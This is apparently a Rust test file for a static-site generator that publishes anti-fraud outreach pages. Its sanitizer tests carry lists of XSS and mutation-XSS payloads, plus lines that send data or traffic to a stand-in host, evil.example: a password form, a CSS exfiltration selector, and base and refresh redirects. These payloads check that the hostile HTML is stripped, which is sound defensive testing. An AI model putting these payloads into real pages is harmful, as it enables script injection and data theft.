//! The site as it stands on disk: read back with an HTML parser that has nothing to do with
//! what wrote it.

mod common;

use std::collections::{BTreeSet, HashSet};
use std::path::Path;
use std::process::Command;
use std::sync::LazyLock;

use common::{Campaign, tree};
use outreach::content::text::decode_path;
use scraper::{Html, Selector};
use serde_json::Value;

const BASE: &str = "https://www.example.org/fanzha/";
const GPS: &[u8] = b"GPS 30 deg 39' N, 104 deg 4' E";

/// A campaign with everything a site can have, built once: two languages, a quiz, a photograph
/// that says where it was taken, a drawing with a program in it.
static SITE: LazyLock<Campaign> = LazyLock::new(|| {
    let campaign = rich();
    let out = campaign.run(&["build", "--only", "site"]);
    assert!(out.status.success(), "{}", common::stderr(&out));
    campaign
});

fn rich() -> Campaign {
    let campaign = Campaign::init();
    campaign.replace("book.toml", "# base-url", "base-url");
    let book = campaign.read("book.toml");
    let english = "[languages.en]\ntitle = \"Against fraud\"\n\n[languages.en.organization]\nname = \"The centre\"\n";
    campaign.write("book.toml", format!("{book}\n{english}"));
    campaign.write("content/quizzes/pupils.yaml", common::QUIZ);
    campaign.write("content/images/photo.jpg", photo());
    campaign.write("content/images/drawing.svg", DRAWING);
    campaign.write(
        "content/pages/pictures.md",
        "---\ntitle: 图片\n---\n\n![现场照片](../images/photo.jpg)\n\n![示意图](../images/drawing.svg)\n\n[原图](../images/photo.jpg)，\
         [公安部](https://www.mps.gov.cn/)\n",
    );
    campaign.write(
        "content/scams/fake-refund.en.md",
        "---\ntitle: Fake refund\nheadline: No refund by phone\nsummary: A refund never needs a transfer.\nrisk: high\nreviewed: 2026-11-01\n---\n\n\
         A caller offers a refund. See [this case](../cases/refund-call.md) and [this page](fake-refund.en.md).\n\n\
         ## Red flags {.red-flags}\n\n- **Share your screen**\n- Keep it secret\n\n## What to do {.actions}\n\n- Hang up\n",
    );
    campaign
}

const DRAWING: &str = r#"<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" onload="alert(1)"><script>alert(2)</script><path d="M0 0h9v9"/></svg>"#;

/// 1200×600, with words where a camera writes the place.
fn photo() -> Vec<u8> {
    let mut bytes = std::io::Cursor::new(Vec::new());
    let picture = image::RgbImage::from_fn(1200, 600, |x, y| image::Rgb([(x % 251) as u8, (y % 251) as u8, 90]));
    picture.write_to(&mut bytes, image::ImageFormat::Jpeg).unwrap();
    let plain = bytes.into_inner();
    let mut out = plain[..2].to_vec();
    out.extend([0xFF, 0xE1]);
    out.extend(u16::try_from(GPS.len() + 8).unwrap().to_be_bytes());
    out.extend(b"Exif\0\0");
    out.extend(GPS);
    out.extend(&plain[2..]);
    out
}

fn dist() -> std::path::PathBuf {
    SITE.path("dist")
}

fn pages() -> Vec<String> {
    tree(&dist()).into_iter().map(|(path, _)| path).filter(|p| p.ends_with(".html")).collect()
}

fn html(path: &str) -> Html {
    Html::parse_document(&SITE.read(&format!("dist/{path}")))
}

fn select(selector: &str) -> Selector {
    Selector::parse(selector).unwrap()
}

fn attributes(page: &Html, selector: &str, name: &str) -> Vec<String> {
    page.select(&select(selector)).filter_map(|e| e.value().attr(name)).map(str::to_owned).collect()
}

/// The file that an address on a page leads to; `None` for addresses elsewhere.
fn target(page: &str, url: &str) -> Option<String> {
    if ["http:", "https:", "tel:", "mailto:", "#", "data:"].iter().any(|s| url.starts_with(s)) {
        return None;
    }
    let base = url::Url::parse("file:///").unwrap().join(page).unwrap();
    let resolved = base.join(url.split(['?', '#']).next().unwrap()).unwrap();
    Some(decode_path(resolved.path()).trim_start_matches('/').to_owned())
}

#[test]
fn pages_are_valid_and_whole() {
    for path in pages() {
        let page = html(&path);
        assert!(page.errors.is_empty(), "{path}: {:?}", page.errors);
        let root = page.root_element().value();
        let english = path.starts_with("en/");
        assert_eq!(root.attr("lang"), Some(if english { "en" } else { "zh-CN" }), "{path}");
        assert_eq!(page.select(&select("h1")).count(), 1, "{path} has not exactly one h1");
        assert_eq!(page.select(&select("main")).count(), 1, "{path}");
        let ids = attributes(&page, "[id]", "id");
        assert_eq!(ids.len(), ids.iter().collect::<HashSet<_>>().len(), "{path} repeats an id");
        for image in page.select(&select("img")) {
            assert!(image.value().attr("alt").is_some(), "{path} has a picture without alt");
        }
        for label in attributes(&page, "[aria-labelledby]", "aria-labelledby") {
            assert!(ids.contains(&label), "{path}: nothing has the id {label}");
        }
    }
}

/// The checker of HTML: what `HTML_VALIDATE` names, or `html-validate` on the path.
fn html_validate() -> Option<Command> {
    let program = std::env::var_os("HTML_VALIDATE").unwrap_or_else(|| "html-validate".into());
    let found = Command::new(&program).arg("--version").output().is_ok_and(|out| out.status.success());
    if !found {
        common::skipped("a check of HTML: no html-validate (npm) on this machine");
    }
    found.then(|| Command::new(program))
}

#[test]
fn pages_are_valid_to_another_judge() {
    let Some(mut judge) = html_validate() else { return };
    // Its file of rules leaves out what is a matter of taste: how `doctype` is written, spaces in telephone numbers,
    // the self-check's form (which sends nothing), ids of Chinese words; boxes of one question share a name.
    let rules = common::sample_root().join("tests/fixtures/htmlvalidate.json");
    let files: Vec<_> = pages().iter().map(|p| dist().join(p)).collect();
    assert!(files.len() > 20);
    let out = judge.arg("--config").arg(rules).args(files).output().unwrap();
    assert!(out.status.success(), "{}{}", common::stdout(&out), common::stderr(&out));
}

#[test]
fn every_address_leads_to_a_file() {
    for path in pages().iter().filter(|p| *p != "404.html") {
        let page = html(path);
        let mut urls = attributes(&page, "[href]", "href");
        urls.extend(attributes(&page, "[src]", "src"));
        for set in attributes(&page, "[srcset]", "srcset") {
            urls.extend(set.split(", ").map(|s| s.split(' ').next().unwrap().to_owned()));
        }
        assert!(urls.len() > 5, "{path}");
        for url in urls {
            assert!(!url.starts_with('/'), "{path}: {url} does not work from a USB stick");
            if let Some(file) = target(path, &url) {
                assert!(dist().join(&file).is_file(), "{path}: {url} leads nowhere");
            }
        }
    }
}

#[test]
fn nothing_is_inline_and_nothing_comes_from_elsewhere() {
    let headers = SITE.read("dist/_headers");
    for path in pages() {
        let page = html(&path);
        for script in page.select(&select("script")) {
            assert!(script.value().attr("src").is_some(), "{path} has an inline script");
        }
        assert_eq!(page.select(&select("style")).count(), 0, "{path}");
        for element in page.select(&select("*")).filter(|e| e.value().name() != "svg") {
            for (name, value) in element.value().attrs() {
                assert!(!name.starts_with("on") && name != "style", "{path}: {name}={value:?}");
                assert!(!value.trim_start().to_lowercase().starts_with("javascript:"), "{path}: {value}");
            }
        }
        // A code is written into its page and comes from nowhere else.
        let loaded = "script[src], img[src]:not(.qr img), iframe[src], source[srcset], link[rel=stylesheet]";
        for url in attributes(&page, loaded, "src") {
            assert!(!url.contains("//"), "{path} loads {url}");
        }
        let policy = attributes(&page, "meta[http-equiv=Content-Security-Policy]", "content");
        assert_eq!(policy.len(), 1, "{path}");
        assert!(headers.contains(&format!("Content-Security-Policy: {}\n", policy[0])), "{path}");
        assert!(!policy[0].contains("unsafe"), "{}", policy[0]);
        for link in page.select(&select("main a[href^='http']")) {
            let rel = link.value().attr("rel").unwrap_or_default();
            assert!(rel.contains("noopener"), "{path}: {:?}", link.value().attr("href"));
        }
    }
    assert!(headers.contains("/en/scams/*\n") && headers.contains("/index.html\n"));
}

#[test]
fn languages_lead_to_each_other() {
    let chinese = html("scams/fake-refund.html");
    let english = html("en/scams/fake-refund.html");
    for page in [&chinese, &english] {
        let pairs: BTreeSet<_> = page
            .select(&select("link[hreflang]"))
            .map(|l| (l.value().attr("hreflang").unwrap(), l.value().attr("href").unwrap()))
            .collect();
        let expected =
            [("en", format!("{BASE}en/scams/fake-refund.html")), ("zh-CN", format!("{BASE}scams/fake-refund.html"))];
        for (tag, url) in &expected {
            assert!(pairs.contains(&(*tag, url.as_str())), "{pairs:?}");
        }
    }
    let switch = |page: &Html, path: &str, tag: &str| {
        let links = attributes(page, &format!("a.tool[lang='{tag}']"), "href");
        target(path, links.first().unwrap_or_else(|| panic!("{path} has no switch to {tag}"))).unwrap()
    };
    assert_eq!(switch(&chinese, "scams/fake-refund.html", "en"), "en/scams/fake-refund.html");
    assert_eq!(switch(&english, "en/scams/fake-refund.html", "zh-CN"), "scams/fake-refund.html");
    // What is not translated leads to the other language's first page, and claims no equal.
    let case = html("cases/refund-call.html");
    assert_eq!(switch(&case, "cases/refund-call.html", "en"), "en/index.html");
    assert!(attributes(&case, "link[hreflang=en]", "href").is_empty());
    // A link to what is not translated leads to the original; one to the translation stays.
    let links: Vec<_> = attributes(&english, "main p a", "href")
        .iter()
        .filter_map(|u| target("en/scams/fake-refund.html", u))
        .collect();
    assert!(links.contains(&"cases/refund-call.html".to_owned()), "{links:?}");
    assert!(links.contains(&"en/scams/fake-refund.html".to_owned()), "{links:?}");
    let text: String = english.root_element().text().collect();
    assert!(text.contains("The centre") && text.contains("Against fraud"));
    // The site map of each language is named, and its feed is its own.
    assert!(SITE.read("dist/robots.txt").contains(&format!("Sitemap: {BASE}en/sitemap.xml")));
    assert!(SITE.read("dist/en/feed.xml").contains("Fake refund"));
    assert!(!SITE.read("dist/feed.xml").contains("Fake refund"));
}

#[test]
fn only_pages_that_are_there_are_led_to_in_another_language() {
    let campaign = Campaign::init();
    campaign.replace("book.toml", "# base-url", "base-url");
    let english =
        "[languages.en]\ntitle = \"Against fraud\"\n\n[languages.en.organization]\nsites = [\"police.example\"]\n";
    campaign.write("book.toml", campaign.read("book.toml") + english);
    let scam =
        "---\ntitle: Fake refund\nsummary: No refund needs a transfer. See www.police.example.\n---\n\nIt is a trap.\n";
    campaign.write("content/scams/fake-refund.en.md", scam);
    campaign.write("content/quizzes/pupils.yaml", common::QUIZ);
    campaign.write("content/quizzes/pupils.en.yaml", common::QUIZ);
    let out = campaign.run(&["build", "--only", "site"]);
    assert!(out.status.success(), "a site that is named in English alone: {}", common::stderr(&out));
    let english = |page: &str| {
        let page = Html::parse_document(&campaign.read(&format!("dist/{page}")));
        attributes(&page, "link[hreflang=en]", "href")
    };
    // An explainer without red flags has nothing to tick.
    assert!(!campaign.path("dist/en/check.html").exists() && english("check.html").is_empty());
    assert_eq!(english("quiz/pupils.html"), [format!("{BASE}en/quiz/pupils.html")]);
    assert_eq!(english("quiz/index.html"), [format!("{BASE}en/quiz/index.html")]);
}

#[test]
fn a_code_on_paper_leads_on_when_an_entry_gets_another_name() {
    let campaign = Campaign::init();
    campaign.replace("book.toml", "# base-url", "base-url");
    let page = "---\ntitle: 防骗 & 自查\n---\n\n内容。\n";
    campaign.write("content/pages/old.md", page);
    let build = || campaign.run(&["build", "--only", "site"]);
    assert!(!common::stderr(&build()).contains("are gone"));
    std::fs::rename(campaign.path("content/pages/old.md"), campaign.path("content/pages/new one.md")).unwrap();
    // Said when it happens, and only by builds that make pages.
    assert!(!common::stderr(&campaign.run(&["build", "--only", "letters", "-d", "other"])).contains("are gone"));
    let said = common::stderr(&build());
    assert!(said.contains("1 pages of the last build are gone") && said.contains("pages/old.html"), "{said}");
    campaign.replace("content/pages/new one.md", "---\ntitle", "---\nmoved-from: [pages/old.md, pages/older]\ntitle");
    assert!(!common::stderr(&build()).contains("are gone"));
    for old in ["pages/old.html", "pages/older.html"] {
        let page = Html::parse_document(&campaign.read(&format!("dist/{old}")));
        assert_eq!(attributes(&page, "meta[http-equiv=refresh]", "content"), ["0; url=../pages/new%20one.html"]);
        assert_eq!(attributes(&page, "p a", "href"), ["../pages/new%20one.html"]);
        assert_eq!(attributes(&page, "link[rel=canonical]", "href"), [format!("{BASE}pages/new%20one.html")]);
    }
    assert!(!campaign.read("dist/sitemap.xml").contains("pages/old"));
    campaign.replace("content/pages/new one.md", "pages/older", "../../etc/older");
    let said = common::stderr(&build());
    assert!(said.contains("outreach::front-matter::moved-from") && said.contains("new one.md:2"), "{said}");
}

#[test]
fn a_site_shows_the_numbers_it_is_registered_under() {
    let campaign = Campaign::init();
    let records = "[output.site]\nicp = \"某ICP备12345678号\"\npolice-record = \"某公网安备11000002000001号\"";
    campaign.replace("book.toml", "[output.site]", records);
    let out = campaign.run(&["build", "--only", "site"]);
    assert!(out.status.success(), "{}", common::stderr(&out));
    let page = Html::parse_document(&campaign.read("dist/scams/fake-refund.html"));
    let links = attributes(&page, ".site-foot .records a", "href");
    assert_eq!(links, ["https://beian.miit.gov.cn/", "https://beian.mps.gov.cn/"]);
}

#[test]
fn a_tag_in_small_and_in_capital_letters_is_one() {
    let campaign = Campaign::init();
    campaign.write("content/pages/one.md", "---\ntitle: 甲\ntags: [AI换脸]\n---\n\n甲文。\n");
    campaign.write("content/pages/two.md", "---\ntitle: 乙\ntags: [ai换脸]\n---\n\n乙文。\n");
    let out = campaign.run(&["build", "--only", "site"]);
    assert!(out.status.success(), "{}", common::stderr(&out));
    let page = campaign.read("dist/tags/ai换脸.html");
    assert!(page.contains("AI换脸") && page.contains("pages/one.html") && page.contains("pages/two.html"), "{page}");
}

#[test]
fn styles_know_no_left_and_right() {
    let css = SITE.read("dist/static/style.css");
    let sides =
        regex::Regex::new(r"(margin|padding|border|inset)-(left|right)|text-align:(left|right)|[{;](left|right):")
            .unwrap();
    assert!(css.len() > 10_000);
    assert_eq!(sides.find(&css).map(|m| m.as_str()), None, "a language may be written from the right");
}

#[test]
fn what_is_not_translated_is_a_warning_and_only_then() {
    let said = SITE.check();
    assert!(
        said.contains(
            "warning[outreach::languages::missing]: 1 of cases are not in `en`: content/cases/refund-call.md"
        ),
        "{said}"
    );
    assert!(!said.contains("of scams are not in"), "{said}");
    let campaign = Campaign::init();
    assert!(!campaign.check().contains("languages"));
    campaign.write("content/scams/fake-refund.en.md", "---\ntitle: Fake refund\n---\n\nText\n");
    assert!(campaign.build_fails().contains("add a table `[languages.en]` to book.toml"));
    campaign.replace("book.toml", "[organization]", "[languages.tlh]\n\n[organization]");
    assert!(campaign.build_fails().contains("the theme has no words in `tlh`"));
}

#[test]
fn every_channel_has_the_other_language_in_its_folder() {
    let campaign = rich();
    campaign.build();
    assert!(campaign.path("dist/en/posters/fake-refund-a3.pdf").is_file());
    assert!(campaign.read("dist/en/scams/fake-refund.html").contains("../posters/fake-refund-a3.pdf"));
    let qr: Vec<_> = common::paths(&campaign.path("dist"), "posters");
    assert!(qr.iter().any(|p| p == "posters/fake-refund-a3.pdf"), "{qr:?}");
}

#[test]
fn pictures_come_in_widths_without_the_place_they_were_taken() {
    let page = html("pages/pictures.html");
    let img = page.select(&select("picture img")).next().unwrap().value();
    assert_eq!((img.attr("width"), img.attr("height"), img.attr("loading")), (Some("1200"), Some("600"), Some("lazy")));
    let set = attributes(&page, "picture source[type='image/webp']", "srcset").remove(0);
    let widths: Vec<_> = set.split(", ").map(|s| s.split_once(' ').unwrap()).collect();
    assert_eq!(widths.iter().map(|(_, w)| *w).collect::<Vec<_>>(), ["480w", "960w", "1200w"]);
    for (url, width) in widths {
        let file = dist().join(target("pages/pictures.html", url).unwrap());
        let (w, h) = image::image_dimensions(&file).unwrap();
        assert_eq!((format!("{w}w"), w), (width.to_owned(), h * 2));
    }
    let holds = |bytes: &[u8], words: &[u8]| bytes.windows(words.len()).any(|w| w == words);
    assert!(holds(&std::fs::read(SITE.path("content/images/photo.jpg")).unwrap(), GPS));
    for (path, bytes) in tree(&dist()) {
        assert!(!holds(&bytes, GPS), "{path} says where the photograph was taken");
    }
    let drawing = SITE.read("dist/media/images/drawing.svg");
    assert!(drawing.contains("<path") && !drawing.contains("alert"), "{drawing}");
}

#[test]
fn a_picture_that_claims_too_much_is_refused() {
    let campaign = Campaign::init();
    // A PNG whose header claims 100,000 pixels each way, as `python3 -c` would write it.
    let mut png = b"\x89PNG\r\n\x1a\n\0\0\0\x0dIHDR".to_vec();
    png.extend([0, 1, 0x86, 0xA0, 0, 1, 0x86, 0xA0, 8, 2, 0, 0, 0]);
    png.extend(crc32(&png[12..]).to_be_bytes());
    png.extend(b"\0\0\0\0IDAT\x35\xaf\x06\x1e\0\0\0\0IEND\xaeB`\x82");
    campaign.write("content/images/bomb.png", &png);
    let said = campaign.build_fails();
    assert!(said.contains("outreach::pictures::unusable") && said.contains("content/images/bomb.png"), "{said}");
    assert!(said.contains("10,000,000,000 pixels"), "{said}");
}

fn crc32(bytes: &[u8]) -> u32 {
    let step = |crc: u32, byte: &u8| {
        (0..8).fold(crc ^ u32::from(*byte), |c, _| if c & 1 == 1 { 0xEDB8_8320 ^ (c >> 1) } else { c >> 1 })
    };
    !bytes.iter().fold(!0, step)
}

#[test]
fn hostile_words_stay_words() {
    let campaign = rich();
    let hostile = "\"><script>alert(1)</script><img src=x onerror=alert(2)>{{ 7 * 7 }}";
    let quoted = hostile.replace('\'', "''");
    campaign.replace("content/scams/fake-refund.md", "title: 冒充客服退款", &format!("title: '{quoted}'"));
    campaign.replace(
        "content/scams/fake-refund.md",
        "- “请下载软件，打开屏幕共享”",
        &format!("- {}", hostile.replace('<', "\\<").replace('{', "\\{")),
    );
    campaign.replace("content/quizzes/pupils.yaml", "先扫码试试", &format!("'{quoted}'"));
    campaign.replace("book.toml", "title = \"反诈宣传\"", &format!("title = '{quoted}'"));
    campaign.write("content/pages/odd.md", format!("---\ntitle: 链接\ntags: ['{quoted}']\n---\n\n<b onclick=\"alert(3)\">粗体</b>\n\n<script>alert(4)</script>\n"));
    let out = campaign.run(&["build", "--only", "site"]);
    assert!(out.status.success(), "{}", common::stderr(&out));
    let mut shown = 0;
    for (path, bytes) in tree(&campaign.path("dist")) {
        let text = String::from_utf8_lossy(&bytes);
        if path.ends_with(".js") {
            assert!(!text.contains("</script") && !text.contains("<img"), "{path}");
        }
        if !path.ends_with(".html") {
            continue;
        }
        let page = Html::parse_document(&text);
        assert!(page.errors.is_empty(), "{path}: {:?}", page.errors);
        assert_eq!(page.select(&select("script:not([src])")).count(), 0, "{path}");
        assert_eq!(page.select(&select("[onerror], [onclick]")).count(), 0, "{path}");
        shown += text.matches("&lt;script&gt;alert(1)").count();
        assert!(!text.contains(">49"), "{path}");
    }
    assert!(shown > 5, "the words are nowhere to be seen");
    for url in ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "java%0Ascript:alert(1)", "data:text/html,x"] {
        campaign.write("content/pages/link.md", format!("---\ntitle: 链接\n---\n\n[点我](<{url}>)\n"));
        let said = campaign.build_fails();
        assert!(said.contains("outreach::links::"), "{url}: {said}");
    }
}

/// A page with this text, built; its `main` without what the theme puts around the text.
fn page_of(campaign: &Campaign, text: &str) -> (Html, String) {
    campaign.write("content/pages/html.md", format!("---\ntitle: 网页\nreviewed: 2026-11-01\n---\n\n{text}\n"));
    let out = campaign.run(&["build", "--only", "site"]);
    assert!(out.status.success(), "{}", common::stderr(&out));
    let page = Html::parse_document(&campaign.read("dist/pages/html.html"));
    assert!(page.errors.is_empty(), "{text}: {:?}", page.errors);
    (page, common::stderr(&out))
}

#[test]
fn html_in_markdown_is_shown_where_it_is_only_text() {
    let campaign = Campaign::init();
    campaign.write("content/images/photo.jpg", photo());
    let text = "<kbd>音量</kbd>键<br>一起按<sup>1</sup>，H<sub>2</sub>O。\n\n\
        <details open>\n<summary>更多：<ruby>诈<rt>zhà</rt></ruby></summary>\n\n**粗体**和[链接](../scams/fake-refund.md)\n\n\
        ### 小标题\n\n| 甲 | 乙 |\n|:-:|---|\n| 1 | <b>2</b> |\n\n![现场](../images/photo.jpg)\n\n</details>\n\n\
        <p title=\"提示\">见<a href=\"../scams/fake-refund.md\">此页</a>和<a href='https://www.mps.gov.cn/'>公安部</a></p>";
    let (page, said) = page_of(&campaign, text);
    assert!(!said.contains("outreach::html"), "{said}");
    for (selector, count) in [
        ("main kbd", 1),
        ("main sup", 1),
        ("main ruby rt", 1),
        ("main details[open] > summary", 1),
        ("main details h3[id='小标题']", 1),
        ("main details .table td b", 1),
        ("main details td.center", 1),
        ("main details figure picture img[width]", 1),
        ("main details a[href='../scams/fake-refund.html']:not([rel])", 1),
        ("main p[title='提示'] a[href='../scams/fake-refund.html']", 1),
        ("main p a[href='https://www.mps.gov.cn/'][rel='noopener external']", 1),
    ] {
        assert_eq!(page.select(&select(selector)).count(), count, "{selector}: {}", page.html());
    }
    assert!(campaign.read("dist/search-data.js").contains("见此页和公安部"), "words in HTML are searched");
    let html = page.html();
    assert!(!html.contains("#&quot;") && !html.contains("<bdi title"), "marks of the cleaner are seen: {html}");
}

#[test]
fn html_is_left_out_or_shown_as_it_is_where_that_is_asked_for() {
    let campaign = Campaign::init();
    let text = "a <b class=\"x\">粗</b>\n\n<div id=\"mine\">块</div>";
    let (page, said) = page_of(&campaign, text);
    assert_eq!(page.select(&select("main b, main div[id]")).count(), 1);
    assert!(said.contains("`class` of `<b>` is not shown on the site"), "{said}");
    assert!(said.contains("content/pages/html.md:8:1") && said.contains("`id` of `<div>`"), "{said}");
    campaign.replace("book.toml", "search = true", "search = true\nraw-html = \"allow\"");
    let (page, said) = page_of(&campaign, text);
    assert_eq!(page.select(&select("main b.x, main div#mine")).count(), 2);
    assert!(!said.contains("outreach::html"), "{said}");
    campaign.replace("book.toml", "\"allow\"", "\"leave-out\"");
    let (page, said) = page_of(&campaign, text);
    let words: String = page.select(&select("main p")).flat_map(|m| m.text()).collect();
    assert_eq!(page.select(&select("main b, main #mine")).count(), 0);
    assert!(words.contains("a 粗") && said.contains("HTML is left out of the site"), "{words} {said}");
    assert!(!campaign.read("dist/search-data.js").contains('块'));
    campaign.replace("book.toml", "\"leave-out\"", "\"maybe\"");
    assert!(campaign.build_fails().contains("raw-html"));
}

#[test]
fn paper_says_that_it_has_no_html() {
    let campaign = Campaign::init();
    campaign.replace("content/letters/parents.md", "\n如果已经转账", "\n<p>只在网上</p>\n\n如果已经转账");
    let said = campaign.check();
    assert!(said.contains("HTML is left out of the entry's letters"), "{said}");
    // What is written in HTML is checked like everything else.
    campaign.write(
        "content/pages/html.md",
        "---\ntitle: 网页\n---\n\n<div>\n<p title=\"找13900139000\">电话<b>138</b>00138000</p>\n</div>\n",
    );
    let said = campaign.build_fails();
    assert!(said.contains("13800138000") || said.contains("<b>138</b>00138000"), "{said}");
    assert!(said.contains("13900139000"), "{said}");
}

#[test]
fn hostile_html_does_nothing() {
    let attacks = [
        "<script>alert(1)</script>",
        "前<script>alert(1)</script>后",
        "<img src=x onerror=alert(1)>",
        "<b onmouseover=\"alert(1)\" style=\"position:fixed\" id=\"main\" class=\"skip\">x</b>",
        "<svg><script>alert(1)</script><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<base href=\"https://evil.example/\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
        "<style>input[value^=a]{background:url(https://evil.example/a)}</style>",
        "<link rel=stylesheet href=https://evil.example/a.css>",
        "<!-- nobody closes this <img src=x onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<template><script>alert(1)</script></template>",
        "<a href=\"javascript:alert(1)\">x</a><a href=\"java&#10;script:alert(1)\">y</a><a href=\"&#106;avascript:alert(1)\">z</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a><a href=\"//evil.example/\">y</a><a href=\"\\\\evil.example\">z</a>",
        "<a href=\"https://evil.example/\" target=_blank rel=opener ping=https://evil.example/>x</a>",
        "<form action=https://evil.example/><input name=password><button formaction=javascript:alert(1)>x</button></form>",
        "<details ontoggle=alert(1) open><summary onclick=alert(1)>x</summary></details>",
        "<div><div><div></main></body><header>x",
        "<bdi title=\"#0123456789abcdef-0\"></bdi>",
        "<p title='",
    ];
    let campaign = Campaign::init();
    campaign.replace("book.toml", "[organization]", "[organization]\nsites = [\"evil.example\"]");
    campaign.write(
        "themes/default/site/page.html",
        "{% extends \"base.html\" %}{% block main %}<h1>网页</h1><article>{{ body_html | safe }}</article>{% endblock main %}",
    );
    let allowed: HashSet<&str> = outreach::content::raw_html::TAGS.into_iter().collect();
    for (number, attack) in attacks.iter().enumerate() {
        campaign.write(
            &format!("content/pages/attack-{number}.md"),
            format!("---\ntitle: 网页\n---\n\n{attack}\n\n这一段**还在**。\n\n> 引用\n>\n> {attack}\n\n## 标题\n\n最后一段。\n"),
        );
    }
    let out = campaign.run(&["build", "--only", "site"]);
    assert!(out.status.success(), "{}", common::stderr(&out));
    let said = common::stderr(&out);
    for what in
        ["`<script>`", "`<img>`", "`onmouseover` of `<b>`", "`<svg>`", "`<base>`", "the link to `javascript:alert(1)`"]
    {
        assert!(said.contains(&format!("{what} is not shown on the site")), "{what}: {said}");
    }
    assert!(said.contains("the comment is never closed"), "{said}");
    // What is around the text is as on a page without any.
    campaign.write("content/pages/plain.md", "---\ntitle: 网页\n---\n\n这一段**还在**。\n");
    assert!(campaign.run(&["build", "--only", "site"]).status.success());
    let around = |page: &Html| page.select(&select("body *")).count() - page.select(&select("main *")).count();
    let plain = Html::parse_document(&campaign.read("dist/pages/plain.html"));
    for (number, attack) in attacks.iter().enumerate() {
        let page = Html::parse_document(&campaign.read(&format!("dist/pages/attack-{number}.html")));
        assert!(page.errors.is_empty(), "{attack}: {:?}", page.errors);
        assert_eq!(around(&page), around(&plain), "{attack}");
        if attack.starts_with("<!--") {
            assert_eq!(page.select(&select("main article *")).count(), 0, "{attack}");
            continue;
        }
        assert_eq!(page.select(&select("head *")).count(), plain.select(&select("head *")).count(), "{attack}");
        let text: String = page.select(&select("main article")).flat_map(|m| m.text()).collect();
        assert!(text.contains("还在") && text.contains("最后一段"), "{attack}: {text}");
        let mut seen = 0;
        for element in page.select(&select("main article *")) {
            let (name, value) = (element.value().name(), element.value());
            assert!(allowed.contains(name), "{attack}: <{name}>");
            seen += 1;
            for (attribute, value) in value.attrs() {
                assert!(
                    !attribute.starts_with("on") && !["style", "target", "ping"].contains(&attribute),
                    "{attack}: {attribute}"
                );
                assert!(attribute != "class", "{attack}: {value}");
                assert!(attribute != "id" || value == "标题", "{attack}: {value}");
                if attribute == "href" {
                    assert_eq!(value, "https://evil.example/", "{attack}");
                    assert_eq!(element.value().attr("rel"), Some("noopener external"));
                }
            }
        }
        assert!(seen > 3, "{attack}");
    }
}

#[test]
fn pages_say_what_chats_show() {
    for (path, picture) in [
        ("index.html", "og/index.png"),
        ("scams/fake-refund.html", "og/scams/fake-refund.png"),
        ("cases/refund-call.html", "og/cases/refund-call.png"),
        ("en/scams/fake-refund.html", "en/og/scams/fake-refund.png"),
    ] {
        let page = html(path);
        let meta = |property: &str| attributes(&page, &format!("meta[property='{property}']"), "content");
        assert_eq!(meta("og:image"), [format!("{BASE}{picture}")], "{path}");
        assert_eq!(image::image_dimensions(dist().join(picture)).unwrap(), (1200, 630));
        assert!(std::fs::metadata(dist().join(picture)).unwrap().len() < 300_000, "{picture} is too large for a chat");
        assert!(!meta("og:title")[0].is_empty());
        assert_eq!(attributes(&page, "link[rel=canonical]", "href"), [format!("{BASE}{path}")]);
    }
    // Without an address nothing can be absolute.
    let campaign = Campaign::init();
    let out = campaign.run(&["build", "--only", "site"]);
    assert!(out.status.success());
    assert!(!campaign.path("dist/og").exists() && !campaign.path("dist/feed.xml").exists());
    assert!(!campaign.read("dist/index.html").contains("og:image"));
}

#[test]
fn of_very_many_cases_each_shows_the_picture_of_what_it_is_a_case_of() {
    let campaign = Campaign::init();
    campaign.replace("book.toml", "# base-url", "base-url");
    let add = |name: &str, scam: &str| {
        let head = format!(
            "---\ntitle: 案例{name}\nsummary: 退款先要交钱。\n{scam}date: 2026-05-01\n---\n\n## 经过\n\n客服来电。\n"
        );
        campaign.write(&format!("content/cases/{name}.md"), head);
    };
    let there = std::fs::read_dir(campaign.path("content/cases")).unwrap().count();
    for n in there..1000 {
        add(&format!("case-{n}"), "scam: fake-refund\n");
    }
    let own = || common::stdout(&campaign.run(&["list"])).matches("og/cases/").count();
    assert_eq!(own(), 1000);
    add("alone", "");
    assert_eq!(own(), 0);
    let out = campaign.run(&["build", "--only", "site"]);
    assert!(out.status.success(), "{}", common::stderr(&out));
    for (path, picture, shown) in [
        ("cases/case-999.html", "og/scams/fake-refund.png", "scams/fake-refund.html"),
        ("scams/fake-refund.html", "og/scams/fake-refund.png", "scams/fake-refund.html"),
        ("cases/alone.html", "og/index.png", "index.html"),
    ] {
        let page = |path: &str| Html::parse_document(&campaign.read(&format!("dist/{path}")));
        let meta = |property: &str| attributes(&page(path), &format!("meta[property='{property}']"), "content");
        assert!(meta("og:image")[0].ends_with(picture), "{path}: {:?}", meta("og:image"));
        assert!(campaign.path(&format!("dist/{picture}")).is_file(), "{picture}");
        assert_eq!(meta("og:image:alt"), attributes(&page(shown), "meta[property='og:title']", "content"), "{path}");
    }
    campaign.replace("book.toml", "[output.site]", "[output.site]\nshare-images = true");
    assert_eq!(own(), 1001);
    campaign.replace("book.toml", "share-images = true", "share-images = false");
    assert_eq!(common::stdout(&campaign.run(&["list"])).matches("og/").count(), 1);
}

#[test]
fn feeds_are_by_kind() {
    let common = SITE.read("dist/feed.xml");
    assert!(common.contains("scams/fake-refund.html") && common.contains("cases/refund-call.html"));
    let scams = SITE.read("dist/scams/feed.xml");
    assert!(scams.contains("scams/fake-refund.html") && !scams.contains("cases/refund-call.html"));
    assert!(scams.contains(&format!("<link href=\"{BASE}scams/feed.xml\" rel=\"self\"")));
    let named = attributes(&html("cases/refund-call.html"), "link[type='application/atom+xml']", "href");
    for url in named {
        assert!(dist().join(target("cases/refund-call.html", &url).unwrap()).is_file(), "{url}");
    }
}

